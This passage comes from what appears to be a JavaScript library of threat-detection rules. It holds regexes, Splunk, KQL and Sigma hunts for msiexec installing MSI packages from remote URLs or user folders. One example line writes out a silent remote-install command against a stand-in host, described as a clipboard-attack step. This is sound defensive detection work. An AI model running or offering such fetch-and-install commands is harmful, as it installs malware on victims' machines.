          /msiexec(?:\.exe)? (?:\S+ ){0,3}(?:hxxps?|https?):/i,
          /msiexec(?:\.exe)? (?:\w+ ){0,3}to (?:download|fetch|install|run|execute|retrieve) (?:\w+ ){0,2}(?:remote|malicious|rogue)/i,
          /(?:malicious|rogue|trojani[sz]ed|weaponi[sz]ed|remote) MSI (?:packages?|installers?|files?|payloads?)/i,
        ],
      },
      spl: [
        TSTATS,
        '  from datamodel=Endpoint.Processes',
        '  where (Processes.process_name="msiexec.exe" OR Processes.original_file_name="msiexec.exe")',
        '    (Processes.process="*/i*" OR Processes.process="*-i *" OR Processes.process="*/package*" OR Processes.process="*/y*" OR Processes.process="*/z*")',
        '    (Processes.process="*http:*" OR Processes.process="*https:*" OR Processes.process="*\\\\Downloads\\\\*" OR Processes.process="*\\\\AppData\\\\*" OR Processes.process="*\\\\Temp\\\\*" OR Processes.process="*\\\\Users\\\\Public\\\\*")',
        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
        '| `drop_dm_object_name(Processes)`',
        CTIME,
      ].join('\n'),
      kql: [
        'let lookback = 30d;',
        'union',
        '(DeviceProcessEvents',
        '  | where Timestamp > ago(lookback)',
        '  | where FileName =~ "msiexec.exe" or ProcessVersionInfoOriginalFileName =~ "msiexec.exe"',
        '  | where ProcessCommandLine matches regex @"(?i)\\s[-/](i|package|y|z)\\b"',
        '  | where ProcessCommandLine has_any ("http:", "https:", @"\\Downloads\\", @"\\AppData\\", @"\\Temp\\", @"\\Users\\Public\\")',
        '  | extend Quiet = ProcessCommandLine matches regex @"(?i)\\s[-/]q(n|b|r|f)?\\b"',
        '  | project Timestamp, DeviceName, Account = AccountName, Parent = InitiatingProcessFileName, CommandLine = ProcessCommandLine, Quiet, Remote = ""),',
        '(DeviceNetworkEvents',
        '  | where Timestamp > ago(lookback)',
        '  | where InitiatingProcessFileName =~ "msiexec.exe" and RemoteIPType == "Public"',
        '  | where InitiatingProcessCommandLine matches regex @"(?i)https?://"',
        '  | project Timestamp, DeviceName, Account = InitiatingProcessAccountName, Parent = InitiatingProcessParentFileName, CommandLine = InitiatingProcessCommandLine, Quiet = bool(null), Remote = coalesce(RemoteUrl, RemoteIP))',
        '| order by Timestamp desc',
      ].join('\n'),
      sigma: {
        logsource: { category: 'process_creation', product: 'windows' },
        detection: {
          selection_img: [{ 'Image|endswith': '\\msiexec.exe' }, { OriginalFileName: 'msiexec.exe' }],
          selection_install: { 'CommandLine|re|i': '\\s[-/](i|package|y|z)\\b' },
          selection_source: { 'CommandLine|contains': ['http:', 'https:', '\\Downloads\\', '\\AppData\\', '\\Temp\\', '\\Users\\Public\\'] },
        },
        condition: 'all of selection_*',
        note: 'This rule covers the command line; the hunt also looks for msiexec.exe connecting to public addresses with a URL on its command line.',
      },
      falsePositives: ['Users installing software they downloaded themselves, and some vendor bootstrappers that install an MSI from the vendor CDN; check the URL and the signer of the package.'],
      examples: {
        fire: [
          'The clipboard command runs msiexec /q /i https://update-check.example/setup.msi on the victim.',
          'A trojanized MSI installer delivered through search ads drops the loader.',
        ],
        quiet: [
          'Deploy the agent with msiexec from the software distribution share.',
          'The MSI format is used by most enterprise software.',
          'Patch management tools call msiexec to install updates.',
        ],
      },
    },
  ];
}
